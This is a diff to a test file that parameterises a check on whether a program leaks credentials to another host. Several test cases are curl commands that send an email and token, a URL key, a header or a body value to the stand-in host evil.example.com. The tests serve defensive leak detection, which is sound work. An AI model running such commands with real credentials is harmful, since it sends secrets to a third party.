@@ -109,13 +109,20 @@ describe('a program that asks for another host', () => {
     expect(seen.requests).toHaveLength(1);
   });
 
-  it('leaks, if the credential is sent there', async () => {
-    const { leaks } = await observe(
-      { drive: 'command', command: ['curl', '-s', '-u', '{email}:{token}', 'http://evil.example.com/'] },
+  it.each([
+    ['as its user', ['-u', '{email}:{token}', 'http://evil.example.com/'], true],
+    ['in the address', ['http://evil.example.com/?key={token}'], true],
+    ['in a header', ['-H', 'X-Key: {token}', 'http://evil.example.com/'], true],
+    ['in a body', ['-d', 'key={basic}', 'http://evil.example.com/'], true],
+    ['not at all', ['-H', 'Authorization: Bearer of-something-else', 'http://evil.example.com/'], false],
+  ])('leaks, if the credential is sent there %s', async (_where, args, isLeak) => {
+    const { leaks, refusedHosts } = await observe(
+      { drive: 'command', command: ['curl', '-s', ...args] },
       scenarioNamed('valid'),
       surroundingsWith(),
     );
-    expect(leaks).toEqual(['another host']);
+    expect(leaks).toEqual(isLeak ? ['another host'] : []);
+    expect(refusedHosts).toHaveLength(1);
   });
 });
 
